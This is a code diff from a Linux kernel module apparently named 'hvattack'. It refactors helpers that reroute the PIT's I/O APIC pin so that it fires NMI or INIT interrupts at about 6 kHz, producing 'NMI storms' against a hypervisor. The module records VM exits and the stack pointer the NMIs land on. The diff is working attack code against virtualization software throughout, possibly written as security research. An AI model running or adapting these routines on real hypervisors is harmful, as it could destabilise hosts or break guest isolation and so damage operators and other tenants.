@@ -327,6 +327,59 @@ static void ioapic_write(void __iomem *io, unsigned int reg, u32 val)
 	writel(val, io + 0x10);
 }
 
+/* The PIT's I/O APIC pin routed by an attack, and what to put back. */
+struct pit_route {
+	void __iomem *io, *hpet;
+	u32 lo, hi, hpet_cfg;
+	u32 wrote, reads;
+};
+
+/* Routes the PIT's pin as (lo, hi), takes it back from the HPET's legacy
+ * replacement, and runs the PIT at about 6 kHz. Returns 0 when the I/O
+ * APIC could not be mapped (nothing changed). */
+static int pit_route_start(struct pit_route *r, u32 lo, u32 hi)
+{
+	r->io = ioremap(IOAPIC_BASE, PAGE_SIZE);
+	if (!r->io) {
+		pr_info("hvattack: cannot map the IOAPIC\n");
+		return 0;
+	}
+	r->lo = ioapic_read(r->io, 0x10 + 2 * PIT_PIN);
+	r->hi = ioapic_read(r->io, 0x11 + 2 * PIT_PIN);
+	ioapic_write(r->io, 0x11 + 2 * PIT_PIN, hi);
+	ioapic_write(r->io, 0x10 + 2 * PIT_PIN, lo);
+	r->wrote = lo;
+	r->reads = ioapic_read(r->io, 0x10 + 2 * PIT_PIN);
+	/* With the HPET in legacy replacement mode, the PIT is cut off from
+	 * IRQ0: route it back. */
+	r->hpet = ioremap(HPET_BASE, PAGE_SIZE);
+	if (r->hpet) {
+		r->hpet_cfg = readl(r->hpet + 0x10);
+		writel(r->hpet_cfg & ~HPET_CFG_LEGACY_ROUTE, r->hpet + 0x10);
+	}
+	/* PIT channel 0, mode 2 (rate generator), divisor 200: about 6 kHz. */
+	outb(0x34, 0x43);
+	outb(200 & 0xff, 0x40);
+	outb(200 >> 8, 0x40);
+	return 1;
+}
+
+/* Quiets the PIT (one-shot, mode 0) and puts the pin and the HPET back. */
+static void pit_route_end(struct pit_route *r)
+{
+	outb(0x30, 0x43);
+	outb(0, 0x40);
+	outb(0, 0x40);
+	ioapic_write(r->io, 0x10 + 2 * PIT_PIN, r->lo | (1 << 16));
+	ioapic_write(r->io, 0x11 + 2 * PIT_PIN, r->hi);
+	ioapic_write(r->io, 0x10 + 2 * PIT_PIN, r->lo);
+	iounmap(r->io);
+	if (r->hpet) {
+		writel(r->hpet_cfg, r->hpet + 0x10);
+		iounmap(r->hpet);
+	}
+}
+
 /* The stack pointer of the first NMI seen during the storm. */
 static unsigned long nmi_sp;
 
@@ -339,12 +392,10 @@ static int hva_nmi(unsigned int type, struct pt_regs *regs)
 
 static void storm(void)
 {
-	void __iomem *io, *hpet;
-	u32 hpet_cfg = 0;
+	struct pit_route route;
 	u8 *low, *code;
 	u8 saved[16];
 	u64 gate, stub;
-	u32 lo, hi;
 	unsigned long exits = 0, flags;
 	unsigned int eax, ebx, ecx, edx;
 	u64 t0;
@@ -369,27 +420,9 @@ static void storm(void)
 	memcpy(low + 0x20, &gate, 8);
 	*(u64 *)(low + 0x28) = stub >> 32;
 
-	io = ioremap(IOAPIC_BASE, PAGE_SIZE);
-	if (!io) {
-		pr_info("hvattack: cannot map the IOAPIC\n");
-		goto out_low;
-	}
-	lo = ioapic_read(io, 0x10 + 2 * PIT_PIN);
-	hi = ioapic_read(io, 0x11 + 2 * PIT_PIN);
 	/* Delivery mode NMI (100b), edge, physical destination APIC 0, unmasked. */
-	ioapic_write(io, 0x11 + 2 * PIT_PIN, 0);
-	ioapic_write(io, 0x10 + 2 * PIT_PIN, 4 << 8);
-	/* With the HPET in legacy replacement mode, the PIT is cut off from
-	 * IRQ0: route it back for the storm. */
-	hpet = ioremap(HPET_BASE, PAGE_SIZE);
-	if (hpet) {
-		hpet_cfg = readl(hpet + 0x10);
-		writel(hpet_cfg & ~HPET_CFG_LEGACY_ROUTE, hpet + 0x10);
-	}
-	/* PIT channel 0, mode 2 (rate generator), divisor 200: about 6 kHz. */
-	outb(0x34, 0x43);
-	outb(200 & 0xff, 0x40);
-	outb(200 >> 8, 0x40);
+	if (!pit_route_start(&route, 4 << 8, 0))
+		goto out_low;
 
 	nmi_sp = 0;
 	register_nmi_handler(NMI_LOCAL, hva_nmi, 0, "hvattack");
@@ -404,18 +437,7 @@ static void storm(void)
 	local_irq_restore(flags);
 	t0 = ktime_get_ns() - t0;
 
-	/* Quiet the PIT (one-shot, mode 0) and put the pin back. */
-	outb(0x30, 0x43);
-	outb(0, 0x40);
-	outb(0, 0x40);
-	ioapic_write(io, 0x10 + 2 * PIT_PIN, lo | (1 << 16));
-	ioapic_write(io, 0x11 + 2 * PIT_PIN, hi);
-	ioapic_write(io, 0x10 + 2 * PIT_PIN, lo);
-	iounmap(io);
-	if (hpet) {
-		writel(hpet_cfg, hpet + 0x10);
-		iounmap(hpet);
-	}
+	pit_route_end(&route);
 	unregister_nmi_handler(NMI_LOCAL, "hvattack");
 	pr_info("hvattack: nmi storm: %lu exits in %llu ms\n", exits, t0 / 1000000);
 	pr_info("hvattack: nmi sp %lx\n", nmi_sp);
@@ -536,41 +558,14 @@ static void try_step_storm(void)
 
 static void try_ioapic_init(void)
 {
-	void __iomem *io, *hpet;
-	u32 lo, hi, lo_after, hpet_cfg = 0;
+	struct pit_route route;
 
-	io = ioremap(IOAPIC_BASE, PAGE_SIZE);
-	if (!io) {
-		pr_info("hvattack: cannot map the IOAPIC\n");
-		return;
-	}
-	lo = ioapic_read(io, 0x10 + 2 * PIT_PIN);
-	hi = ioapic_read(io, 0x11 + 2 * PIT_PIN);
 	/* Delivery mode INIT (101b), edge, physical destination APIC 1. */
-	ioapic_write(io, 0x11 + 2 * PIT_PIN, 1U << 24);
-	ioapic_write(io, 0x10 + 2 * PIT_PIN, 5 << 8);
-	lo_after = ioapic_read(io, 0x10 + 2 * PIT_PIN);
-	hpet = ioremap(HPET_BASE, PAGE_SIZE);
-	if (hpet) {
-		hpet_cfg = readl(hpet + 0x10);
-		writel(hpet_cfg & ~HPET_CFG_LEGACY_ROUTE, hpet + 0x10);
-	}
-	outb(0x34, 0x43);
-	outb(200 & 0xff, 0x40);
-	outb(200 >> 8, 0x40);
+	if (!pit_route_start(&route, 5 << 8, 1U << 24))
+		return;
 	mdelay(50);
-	outb(0x30, 0x43);
-	outb(0, 0x40);
-	outb(0, 0x40);
-	ioapic_write(io, 0x10 + 2 * PIT_PIN, lo | (1 << 16));
-	ioapic_write(io, 0x11 + 2 * PIT_PIN, hi);
-	ioapic_write(io, 0x10 + 2 * PIT_PIN, lo);
-	iounmap(io);
-	if (hpet) {
-		writel(hpet_cfg, hpet + 0x10);
-		iounmap(hpet);
-	}
-	pr_info("hvattack: ioapic init: wrote %x, reads %x\n", 5 << 8, lo_after);
+	pit_route_end(&route);
+	pr_info("hvattack: ioapic init: wrote %x, reads %x\n", route.wrote, route.reads);
 }
 
 static void try_lint_init(void)
